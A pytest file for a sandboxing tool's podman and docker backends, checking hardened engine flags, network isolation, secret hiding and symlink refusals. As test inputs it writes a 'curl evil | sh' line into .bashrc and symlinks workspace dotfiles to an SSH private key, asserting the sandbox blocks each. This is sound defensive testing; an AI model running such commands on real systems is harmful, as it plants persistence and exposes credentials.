"""The podman/docker backends: the engine command line rendered from the Plan (pure, golden),
`corral container args`, and real podman runs as root and as an unprivileged user with a test
image built without any registry (scripts/build-test-image.sh)."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import helpers
import pytest
from podman_env import IMAGES
from podman_env import podman_env as _podman_env

from corral.backends import container as C
from corral.backends.facts import Facts
from corral.sandbox.placeholders import Placeholder
from corral.sandbox.plan import Mount, NetPlan, Plan, WorkspacePlan
from corral.sandbox.seccomp import SeccompOptions

IMAGE = IMAGES["busybox"]


def plan(**kw) -> Plan:
    mounts = (
        Mount("ro-bind", "/", "/", why="whole filesystem read-only"),
        Mount("bind", "/tmp", "/tmp", why="/tmp overlay"),
        Mount("dev", "/dev"), Mount("proc", "/proc"), Mount("tmpfs", "/dev/shm", perms=0o1777),
        Mount("dev-null", "/etc/shadow", "/dev/null", why="credential location"),
        Mount("bind", "/w/proj", "/w/proj", why="allow_write"),
        Mount("tmpfs", "/tmp/corral-r1", perms=0o700, why="private TMPDIR"),
        Mount("tmpfs", "/home/u/.ssh", perms=0o755, why="credential location"),
        Mount("pre-bind", "/w/proj/.git", "/w/proj/.git", why="pinned"),
        Mount("pre-ro-bind", "/w/proj/.git/config", "/w/proj/.git/config", why="protected"),
        Mount("pre-ro-bind", "/w/proj/.bashrc", "/w/proj/.bashrc", why="placeholder"),
        Mount("dev-null", "/w/proj/.env", "/dev/null", why="secret file"),
        Mount("tmpfs", "/w/proj/secrets", perms=0o755, why="deny_read"),
        Mount("remount-ro", "/home/u/.ssh", why="hidden directory refuses writes"),
        Mount("remount-ro", "/w/proj/secrets", why="hidden directory refuses writes"),
        Mount("data", "/etc/resolv.conf", src="nameserver 127.0.0.1\n", why="resolver"),
        Mount("data", "/etc/passwd", src="root:x:0:0::/:/bin/sh\n", why="names the sandbox uid"),
    )
    base = dict(argv=("sh", "-c", "echo hi"), cwd="/w/proj", env=(("PATH", "/usr/bin:/bin"), ("TMPDIR", "/tmp/corral-r1"),
                                                                    ("MULTI", "a\nb")),
                mounts=mounts, seccomp=SeccompOptions(), disable_userns=True,
                placeholders=(Placeholder("/w/proj/.bashrc", "file"), Placeholder("/tmp/corral-r1", "dir")),
                tmpdir="/tmp/corral-r1", writable_roots=("/w/proj",), scan_skip=frozenset(), protected_before={},
                run_as=(1000, 1000), run_id="r1", workspace=WorkspacePlan("bind", "/w/proj"), offline=True)
    base.update(kw)
    return Plan(**base)


def target(**kw) -> C.Target:
    base = dict(engine="podman", program="podman", image=IMAGE, seccomp="/d/seccomp.json", datadir="/d",
                container="corral-r1", cidfile="/d/cid", init=True)
    base.update(kw)
    return C.Target(**base)


# -- rendering (pure) ---------------------------------------------------------------------------------

def test_golden_argv_root_podman_offline():
    argv, files = C.render("podman", plan(), target())
    assert argv == [
        "podman", "run", "--rm", "-i", "--name", "corral-r1", "--cidfile", "/d/cid", "--init", "--pull", "never",
        "--cap-drop", "ALL", "--security-opt", "no-new-privileges", "--security-opt", "seccomp=/d/seccomp.json",
        "--read-only", "--tmpfs", "/tmp:rw,nosuid,nodev,mode=1777", "--network", "host", "--user", "1000:1000",
        "-v", "/w/proj:/w/proj:rw",
        "--tmpfs", "/tmp/corral-r1:rw,nosuid,nodev,mode=700,U",
        "-v", "/w/proj/.git:/w/proj/.git:rw",
        "-v", "/w/proj/.git/config:/w/proj/.git/config:ro",
        "-v", "/w/proj/.bashrc:/w/proj/.bashrc:ro",
        "-v", "/dev/null:/w/proj/.env:ro",
        "--tmpfs", "/w/proj/secrets:ro,nosuid,nodev,mode=755",
        "-v", "/d/data-16:/etc/resolv.conf:ro",
        "--env-file", "/d/env", "--env", "MULTI",
        "-w", "/w/proj", "--", IMAGE, "sh", "-c", "echo hi"]
    assert dict((p, (d, m)) for p, d, m in files) == {
        "/d/data-16": (b"nameserver 127.0.0.1\n", 0o644),
        "/d/env": (b"PATH=/usr/bin:/bin\nTMPDIR=/tmp/corral-r1\n", 0o600)}


def test_host_paths_outside_mounted_areas_are_not_in_the_command():
    """/etc/shadow, ~/.ssh: the image has its own root; binding them to hide them would expose them."""
    argv = C.argv("podman", plan(), target())
    joined = " ".join(argv)
    assert "/etc/shadow" not in joined and "/home/u/.ssh" not in joined and "/etc/passwd" not in joined
    assert not any(a.startswith("/tmp:") and ":ro" in a for a in argv)


def test_printed_args_leave_out_placeholders_and_generated_files():
    argv = C.argv("podman", plan(), target(datadir="", placeholders=False, env="args"))
    assert "/w/proj/.bashrc:/w/proj/.bashrc:ro" not in argv
    assert "/w/proj/.git/config:/w/proj/.git/config:ro" in argv
    assert not any("resolv.conf" in a for a in argv)
    assert "PATH=/usr/bin:/bin" in argv and "--env-file" not in argv


@pytest.mark.parametrize("engine,root,rootless,net,offline,expect,refused", [
    ("podman", True, False, True, False, "host", False),
    ("podman", True, False, False, True, "host", False),
    ("podman", True, False, False, False, "none", False),
    ("podman", False, True, False, True, "none", False),
    ("podman", False, True, True, False, "none", True),
    ("docker", True, False, False, True, "none", False),
    ("docker", True, False, True, False, "none", True),
    ("docker", False, False, True, False, "none", True),
])
def test_network_mode(engine, root, rootless, net, offline, expect, refused):
    p = plan(network=NetPlan(True, "u", "t") if net else None, offline=offline)
    mode, refusal = C.network_mode(p, target(engine=engine, launched_by_root=root, engine_rootless=rootless))
    assert mode == expect and bool(refusal) == refused


def test_identity_rootless_keeps_launcher_ids_and_root_uses_sandbox_uid():
    assert C.identity(plan(), target()) == ((1000, 1000), False)
    assert C.identity(plan(), target(launched_by_root=False, engine_rootless=True)) == (None, True)
    assert C.identity(plan(run_as=None), target()) == ((0, 0), False)
    argv = C.argv("podman", plan(), target(launched_by_root=False, engine_rootless=True))
    assert "--userns" in argv and "keep-id" in argv and "--user" not in argv


def test_rootless_private_tmpdir_belongs_to_the_command():
    """keep-id runs the command as the launcher: without U its mode-700 TMPDIR is container root's
    and every write there fails (EACCES)."""
    argv = C.argv("podman", plan(), target(launched_by_root=False, engine_rootless=True))
    assert "/tmp/corral-r1:rw,nosuid,nodev,mode=700,U" in argv
    assert "/w/proj/secrets:ro,nosuid,nodev,mode=755" in argv  # a hidden directory is nobody's to write


def test_limits_render_as_engine_flags():
    from corral.policy.model import Limits

    argv = C.argv("podman", plan(), target(limits=Limits(memory=256 << 20, pids=50, cpus=1.5, nofile=512)))
    s = " ".join(argv)
    assert "--memory 268435456" in s and "--pids-limit 50" in s and "--cpus 1.5" in s and "--ulimit nofile=512:512" in s


def test_docker_argv_golden_differences():
    argv = C.argv("docker", plan(), target(engine="docker", program="docker"))
    assert argv[:2] == ["docker", "run"] and "--network" in argv and argv[argv.index("--network") + 1] == "none"
    assert "/tmp/corral-r1:rw,nosuid,nodev,mode=700,uid=1000,gid=1000" in argv  # docker has no U option
    assert "--runtime" not in argv


def test_refusals_name_cause_and_fix():
    from corral.errors import SetupError

    with pytest.raises(SetupError) as err:
        C.render("podman", plan(network=NetPlan(True, "u", "t"), offline=False),
                 target(launched_by_root=False, engine_rootless=True))
    assert "rootless podman" in str(err.value) and "corral proxy" in str(err.value)
    with pytest.raises(SetupError) as err:
        C.render("podman", plan(), target(image=None))
    assert "--image" in str(err.value)
    with pytest.raises(SetupError):
        C.render("podman", plan(mounts=(Mount("bind", "/w/a:b", "/w/a:b"),)), target())


def test_report_rootless_cgroup_v1_limits_not_enforced_and_docker_unreachable():
    from corral.policy.model import Limits
    from corral.sandbox.limits import prepare

    limits = prepare(Limits(memory=1 << 30), None, None, refuse=False)
    rep = C.report("podman", plan(), Facts(False, "/usr/bin/podman", engine_rootless=True, cgroup_version=1), limits)
    mem = rep.get("memory limit")
    assert mem.state == "not enforced" and "rootless, cgroup v1" in mem.how
    rep = C.report("podman", plan(), Facts(True, "/usr/bin/podman", cgroup_version=1), limits)
    assert rep.get("memory limit").state == "enforced"
    assert rep.get("seccomp deny list").state == "enforced"
    rep = C.report("docker", plan(), Facts(True, "/usr/bin/docker", engine_reachable=False))
    assert rep.get("runtime").state == "not enforced" and "daemon" in rep.get("runtime").how
    rep = C.report("podman", plan(network=NetPlan(True, "u", "t"), offline=False),
                   Facts(False, "/usr/bin/podman", engine_rootless=True))
    assert rep.get("network").state == "not enforced"


# -- corral container args ------------------------------------------------------------------------------

def test_container_args_prints_a_runnable_hardened_command(me, ws):
    ws.write(".env", "TOKEN=s3cr3t\n")
    r = helpers.run(me, ["container", "args", "--image", IMAGE, "--memory", "128m", "--", "sh", "-c", "echo hi"],
                    ws.proj)
    assert r.returncode == 0, r.stderr
    argv = shlex.split(r.stdout)
    assert argv[:2] == ["podman", "run"]
    for flag in ("--read-only", "--rm", "-i"):
        assert flag in argv
    assert argv[argv.index("--cap-drop") + 1] == "ALL"
    assert argv[argv.index("--network") + 1] == "none"
    assert f"/dev/null:{ws.proj.resolve()}/.env:ro" in argv
    seccomp = next(a for a in argv if a.startswith("seccomp="))[len("seccomp="):]
    assert Path(seccomp).is_file()
    assert argv[-4:] == [IMAGE, "sh", "-c", "echo hi"] and argv[-5] == "--"
    assert "s3cr3t" not in r.stdout


def test_container_args_docker_and_proxy_socket(me, ws):
    sock = ws.base / "proxy.sock"
    r = helpers.run(me, ["container", "args", "--engine", "docker", "--proxy", f"unix:{sock}", "--image", IMAGE,
                         "--allow-domain", "example.com", "--", "true"], ws.proj)
    assert r.returncode == 0, r.stderr
    argv = shlex.split(r.stdout)
    assert argv[:2] == ["docker", "run"] and f"{sock}:{C.PROXY_SOCKET}" in argv
    assert f"CORRAL_PROXY_SOCKET={C.PROXY_SOCKET}" in argv
    assert not any("127.0.0.1:3128" in a for a in argv)  # corral run's own per-run proxy is not printed


def test_container_args_usage_errors(me, ws):
    r = helpers.run(me, ["container", "args", "--", "true"], ws.proj)
    assert r.returncode == 2 and "--image" in r.stderr and "Traceback" not in r.stderr
    r = helpers.run(me, ["container", "args", "--engine", "lxc", "--image", IMAGE, "--", "true"], ws.proj)
    assert r.returncode == 2 and "podman or docker" in r.stderr
    r = helpers.run(me, ["container", "args", "--proxy", "http://10.0.0.1:3128", "--image", IMAGE, "--", "true"],
                    ws.proj)
    assert r.returncode == 2 and "--network NAME" in r.stderr


# -- docker: no daemon here -----------------------------------------------------------------------------

def test_docker_backend_refuses_clearly_when_the_daemon_is_unreachable(me, ws, tmp_path):
    r = helpers.run(me, ["run", "--backend", "docker", "--image", IMAGE, "--", "true"], ws.proj,
                    env_extra={"DOCKER_HOST": f"unix://{tmp_path}/no-docker.sock"})
    assert r.returncode == 125
    assert "Traceback" not in r.stderr
    if shutil.which("docker"):
        assert "Docker daemon" in r.stderr and "fix:" in r.stderr
    else:
        assert "not installed" in r.stderr


# -- real podman runs -----------------------------------------------------------------------------------

@pytest.fixture
def podman(launcher):
    return _podman_env(launcher)


def _run(launcher, ws, podman, script, *opts, **kw):
    if launcher.is_root:
        # Root runs the container as the owner of the workspace, an unprivileged user (the engine
        # cannot use corral's idmapped mounts: a root-owned workspace is refused, see below).
        pw = helpers.ensure_test_user()
        for root, dirs, files in os.walk(ws.base):
            for n in [root, *(os.path.join(root, d) for d in dirs), *(os.path.join(root, f) for f in files)]:
                os.lchown(n, pw.pw_uid, pw.pw_gid)
    return helpers.run(launcher, ["run", "--backend", "podman", "--image", IMAGE, *opts, "--", "sh", "-c", script],
                       ws.proj, env_extra=podman, timeout=kw.pop("timeout", 60), **kw)


def test_podman_hardened_flags_hold(launcher, ws, podman):
    r = _run(launcher, ws, podman, "grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status; id -u; "
                                   "touch /etc/corral-x 2>&1; echo done")
    assert r.returncode == 0, r.stderr
    status = dict(line.split(":\t") for line in r.stdout.splitlines() if ":\t" in line)
    assert status["CapEff"] == "0000000000000000" and status["CapBnd"] == "0000000000000000"
    assert status["NoNewPrivs"] == "1" and status["Seccomp"] == "2"
    assert "Read-only file system" in r.stdout
    uid = int(r.stdout.splitlines()[4])
    assert uid != 0 and (launcher.is_root or uid == launcher.uid)


def test_podman_setuid_bit_refused_by_corrals_seccomp_list(launcher, ws, podman):
    """corral's deny list, not the engine's default profile (which allows it): chmod u+s fails."""
    r = _run(launcher, ws, podman, "touch f; chmod u+s f; echo rc=$?")
    assert "rc=1" in r.stdout, r.stdout + r.stderr
    assert not (ws.proj / "f").stat().st_mode & 0o4000


def test_podman_workspace_writable_or_read_only_as_the_policy_says(launcher, ws, podman):
    r = _run(launcher, ws, podman, "echo made > new.txt && echo ok")
    assert r.returncode == 0 and "ok" in r.stdout, r.stderr
    assert (ws.proj / "new.txt").read_text() == "made\n"
    st = (ws.proj / "new.txt").stat()
    if not launcher.is_root:
        assert st.st_uid == launcher.uid  # --userns keep-id: writes land as the launcher
    ws.write("keep.txt", "original\n")
    r = _run(launcher, ws, podman, "echo changed > keep.txt; echo rc=$?", "--workspace", "ro")
    assert "rc=0" not in r.stdout, r.stdout + r.stderr
    assert (ws.proj / "keep.txt").read_text() == "original\n"


def test_podman_denied_file_in_workspace_is_unreadable(launcher, ws, podman):
    ws.write(".env", "API_TOKEN=corral-canary-4b1d\n")
    ws.write("id_rsa.pem", "-----BEGIN RSA PRIVATE KEY-----\ncorral-canary-key\n")
    r = _run(launcher, ws, podman, "cat .env id_rsa.pem; echo end", "--deny-read", "**/*.pem")
    assert "corral-canary" not in r.stdout and "end" in r.stdout, r.stdout + r.stderr


def test_podman_planted_rc_file_is_refused(launcher, ws, podman, quarantine_cleanup):
    r = _run(launcher, ws, podman, "echo 'curl evil | sh' >> .bashrc; echo rc=$?")
    assert "rc=0" not in r.stdout
    assert not (ws.proj / ".bashrc").exists() or "evil" not in (ws.proj / ".bashrc").read_text()


@pytest.mark.parametrize("link,target", [(".bashrc", ".ssh/id_rsa"), (".vscode", ".ssh"),
                                         (".git/config", ".ssh/id_rsa"), (".envrc", "proj/.env")])
def test_podman_symlinked_protected_path_cannot_show_a_credential(launcher, ws, podman, link, target):
    """The engine's -v PATH:PATH:ro follows a symlink: a workspace's `.bashrc -> ~/.ssh/id_rsa`
    would show the key in the container (the image has no ~/.ssh to hide). Refused, naming it."""
    key = helpers.marker()
    home = ws.base / "home"
    ws.write(home / ".ssh" / "id_rsa", f"-----BEGIN OPENSSH PRIVATE KEY-----\n{key}\n")
    ws.write(".env", f"API_TOKEN={key}\n")
    dest = ws.proj / link
    if dest.exists():
        dest.unlink()
    dest.symlink_to((home if target.startswith(".ssh") else ws.base) / target)
    ws.chown()
    if launcher.is_root:
        _run(launcher, ws, podman, "true")  # (chowns the workspace to the test user, as the other root runs)
    r = helpers.run(launcher, ["run", "--backend", "podman", "--image", IMAGE, "--", "sh", "-c",
                               f"cat {link} {link}/id_rsa; echo ran"], ws.proj, env_extra={**podman, "HOME": str(home)})
    assert key not in r.stdout + r.stderr
    assert r.returncode == 125 and "ran" not in r.stdout, r.stdout + r.stderr
    assert f"{dest} is a symlink to" in r.stderr and "fix:" in r.stderr, r.stderr


def test_podman_symlinked_protected_file_inside_the_workspace_runs(launcher, ws, podman):
    """A dotfiles repository's `.bashrc -> dotfiles/bashrc`: nothing hidden, the run goes ahead."""
    ws.write("dotfiles/bashrc", "alias ll='ls -l'\n")
    (ws.proj / ".bashrc").symlink_to("dotfiles/bashrc")
    ws.chown()
    r = _run(launcher, ws, podman, "cat .bashrc; echo x >> .bashrc; echo rc=$?")
    assert r.returncode == 0 and "alias ll" in r.stdout and "rc=0" not in r.stdout, r.stdout + r.stderr


def test_podman_exit_codes_signals_and_stdin(launcher, ws, podman):
    assert _run(launcher, ws, podman, "exit 7").returncode == 7
    assert _run(launcher, ws, podman, "kill -TERM $$; sleep 5").returncode == 143
    r = _run(launcher, ws, podman, "read line; echo got:$line", input="hello\n")
    assert r.stdout.strip() == "got:hello"


def test_podman_network_has_no_way_out_but_the_proxy(launcher, ws, podman, server):
    script = (f"ip -o link | cut -d: -f2; wget -q -O- {server.url('/via-proxy')}; echo wget=$?; "
              f"env -u http_proxy -u HTTP_PROXY wget -q -T 3 -O- {server.url('/direct')}; echo direct=$?")
    r = _run(launcher, ws, podman, script, "--allow-domain", server.hostport)
    if not launcher.is_root:
        # rootless podman cannot join corral's network namespace: refused, with the cause and a fix
        assert r.returncode == 125 and "rootless podman" in r.stderr and "fix:" in r.stderr
        return
    assert r.returncode == 0, r.stderr
    assert server.body in r.stdout and "wget=0" in r.stdout
    assert "direct=0" not in r.stdout
    assert server.paths() == ["/via-proxy"]
    assert [n.strip() for n in r.stdout.splitlines()[:1]] == ["lo"]


def test_podman_offline_run_has_no_network(launcher, ws, podman, server):
    r = _run(launcher, ws, podman, f"ip -o link | cut -d: -f2; wget -q -T 3 -O- {server.url('/x')}; echo rc=$?")
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines()[0].strip() == "lo" and "rc=0" not in r.stdout
    assert server.paths() == []


def test_podman_root_owned_workspace_runs_as_the_sandbox_uid_never_uid0(me, ws):
    """A root launch in a root-owned directory: the engine inherits corral's view (idmapped
    writable areas), so the command runs as the unprivileged sandbox uid, never host uid 0, and
    its files land owned by the workspace's owner, as on bwrap."""
    if not me.is_root:
        pytest.skip("needs root")
    podman = _podman_env(me)
    r = helpers.run(me, ["run", "--backend", "podman", "--image", IMAGE, "--", "sh", "-c", "id -u > uid.txt"],
                    ws.proj, env_extra=podman)
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    assert int((ws.proj / "uid.txt").read_text()) != 0
    st = (ws.proj / "uid.txt").stat()
    assert (st.st_uid, st.st_gid) == (0, 0)


def test_podman_leaves_no_container_or_files(launcher, ws, podman):
    before = set(os.listdir("/dev/shm"))
    r = _run(launcher, ws, podman, "true")
    assert r.returncode == 0, r.stderr
    left = [n for n in set(os.listdir("/dev/shm")) - before if n.startswith("corral-")]
    assert left == []
    ps = subprocess.run([*launcher.prefix, "/usr/bin/env", *(f"{k}={v}" for k, v in {**launcher.env, **podman}.items()),
                         "podman", "ps", "-a", "--format", "{{.Names}}"], capture_output=True, text=True, timeout=60,
                        cwd="/")
    assert [n for n in ps.stdout.split() if n.startswith("corral-")] == []
